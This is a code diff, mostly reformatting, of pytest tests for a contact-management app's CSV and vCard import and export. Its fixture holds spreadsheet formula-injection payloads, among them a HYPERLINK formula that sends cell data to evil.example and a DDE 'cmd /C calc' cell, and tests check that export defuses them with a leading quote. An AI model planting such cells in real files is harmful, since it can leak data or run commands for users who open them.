@@ -45,24 +45,44 @@ def importer(kind: str, path, mode: str = "error"):
 def hostile_data() -> None:
     """Cells a spreadsheet would run, quotes before them, line breaks, scripts, a booking."""
     f.employee("anna")
-    evil = f.customer('=HYPERLINK("http://evil.example/"&A1,"Click")', number="K-1",
-                      phone="+49 30 123", email="@home", notes="-5 degrees\r\nline two",
-                      address="'=already quoted once")
+    evil = f.customer(
+        '=HYPERLINK("http://evil.example/"&A1,"Click")',
+        number="K-1",
+        phone="+49 30 123",
+        email="@home",
+        notes="-5 degrees\r\nline two",
+        address="'=already quoted once",
+    )
     plain = f.customer("Ærø Ølhus", number="K-2", notes="\tstarts with a tab")
     Contact.create(customer=evil, name="=cmd|' /C calc'!A0", role="+boss", email="a@b.example")
     Contact.create(customer=plain, name="Åsa", role="", phone="-")
-    talk = f.conversation(evil, "2026-03-02", time_begin="10:00", note="@SUM(1+1)",
-                          with_whom="''=x", follow_up="2026-03-20", employee_login="anna")
+    talk = f.conversation(
+        evil,
+        "2026-03-02",
+        time_begin="10:00",
+        note="@SUM(1+1)",
+        with_whom="''=x",
+        follow_up="2026-03-20",
+        employee_login="anna",
+    )
     f.conversation(plain, "2026-03-01", note="ordinary")
-    Booking.create(customer=evil, employee=Employee.get(Employee.login == "anna"), conversation=talk,
-                   start=dt.datetime(2026, 3, 20, 8, 30), end=dt.datetime(2026, 3, 20, 9, 15),
-                   timezone="Europe/Berlin", title="=1+1", location="-", note="bring\nthe contract")
+    Booking.create(
+        customer=evil,
+        employee=Employee.get(Employee.login == "anna"),
+        conversation=talk,
+        start=dt.datetime(2026, 3, 20, 8, 30),
+        end=dt.datetime(2026, 3, 20, 9, 15),
+        timezone="Europe/Berlin",
+        title="=1+1",
+        location="-",
+        note="bring\nthe contract",
+    )
 
 
 def test_hostile_cells_get_a_leading_quote_and_raw_keeps_them(ctx):
     hostile_data()
     text = exported("customers")
-    assert "\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"Click\"\")\"" in text
+    assert '"\'=HYPERLINK(""http://evil.example/""&A1,""Click"")"' in text
     assert ",'+49 30 123," in text and ",'@home," in text
     assert "''=already quoted once" in text  # one more quote, so import gives back the one
     assert not any(line.startswith(("=", "+", "-", "@")) for cell in text.split(",") for line in [cell])
@@ -130,7 +150,9 @@ def test_update_overwrites_existing_rows(ctx, tmp_path):
 @pytest.mark.parametrize("separator", [";", "\t"])
 def test_semicolon_and_tab_files_with_any_case_headers(ctx, tmp_path, separator):
     f.customer("Alpha", number="A1")
-    text = separator.join(["Customer_Number", "NAME", "Role"]) + "\r\n" + separator.join(["a1", "Bo, Jr.", "CEO"]) + "\r\n"
+    text = (
+        separator.join(["Customer_Number", "NAME", "Role"]) + "\r\n" + separator.join(["a1", "Bo, Jr.", "CEO"]) + "\r\n"
+    )
     (tmp_path / "c.csv").write_text(text, encoding="utf-8")
     assert import_contacts(tmp_path / "c.csv").imported == 1
     assert Contact.get().name == "Bo, Jr."  # a comma inside a ;-separated field stays
@@ -163,10 +185,13 @@ def test_logins_are_one_employee_ignoring_case(ctx, tmp_path):
     assert ensure_employee("anna").login == "Anna"
 
 
-@pytest.mark.parametrize("value, message", [
-    ("9999-12-31", "the year must be from 1900 to 2999"),
-    ("0999-01-01", "the year must be from 1900 to 2999"),
-])
+@pytest.mark.parametrize(
+    "value, message",
+    [
+        ("9999-12-31", "the year must be from 1900 to 2999"),
+        ("0999-01-01", "the year must be from 1900 to 2999"),
+    ],
+)
 def test_follow_up_years_outside_1900_2999_are_refused(ctx, tmp_path, value, message):
     f.customer("Alpha", number="A1")
     (tmp_path / "v.csv").write_text(f"customer_number,date,follow_up\nA1,2026-03-01,{value}\n")
@@ -184,10 +209,10 @@ def test_names_longer_than_255_are_refused_not_cut(ctx, tmp_path):
 
 def test_bookings_keep_their_zone(ctx, tmp_path):
     f.customer("Alpha", number="A1")
-    (tmp_path / "b.csv").write_text("customer_number,start,end,timezone,title\n"
-                                    "A1,2026-03-20 09:00,2026-03-20 10:00,UTC,Call\n")
-    (tmp_path / "c.csv").write_text("customer_number,start,end,title\n"
-                                    "A1,2026-03-20 09:00,2026-03-20 10:00,Berlin\n")
+    (tmp_path / "b.csv").write_text(
+        "customer_number,start,end,timezone,title\nA1,2026-03-20 09:00,2026-03-20 10:00,UTC,Call\n"
+    )
+    (tmp_path / "c.csv").write_text("customer_number,start,end,title\nA1,2026-03-20 09:00,2026-03-20 10:00,Berlin\n")
     import_bookings(tmp_path / "b.csv", "tester", CONFIG)
     import_bookings(tmp_path / "c.csv", "tester", CONFIG)
     utc, berlin = Booking.get(Booking.title == "Call"), Booking.get(Booking.title == "Berlin")
@@ -195,7 +220,9 @@ def test_bookings_keep_their_zone(ctx, tmp_path):
     # no zone given: the configured one (Berlin is UTC+1 in March); stored as the UTC instant
     assert (berlin.start, berlin.timezone) == (dt.datetime(2026, 3, 20, 8, 0), "Europe/Berlin")
     assert "2026-03-20 09:00,2026-03-20 10:00,Europe/Berlin,Berlin" in exported("bookings")
-    (tmp_path / "bad.csv").write_text("customer_number,start,end,timezone\nA1,2026-03-20 09:00,2026-03-20 08:00,Mars/Base\n")
+    (tmp_path / "bad.csv").write_text(
+        "customer_number,start,end,timezone\nA1,2026-03-20 09:00,2026-03-20 08:00,Mars/Base\n"
+    )
     with pytest.raises(CsvImportError) as info:
         import_bookings(tmp_path / "bad.csv", "tester", CONFIG)
     assert [e.column for e in info.value.errors] == ["end", "timezone"]
@@ -221,8 +248,15 @@ def test_vcard_fields(ctx):
     out = io.StringIO()
     write_vcards(out)
     lines = out.getvalue().split("\r\n")
-    for line in ("FN:Ann Smith", "N:Smith;Ann;;;", "ORG:Acme Ltd", "TITLE:Buyer", "EMAIL:ann@acme.example",
-                 "TEL:+1 555", "X-RAPPORT-CUSTOMER:A1"):
+    for line in (
+        "FN:Ann Smith",
+        "N:Smith;Ann;;;",
+        "ORG:Acme Ltd",
+        "TITLE:Buyer",
+        "EMAIL:ann@acme.example",
+        "TEL:+1 555",
+        "X-RAPPORT-CUSTOMER:A1",
+    ):
         assert line in lines
 
 
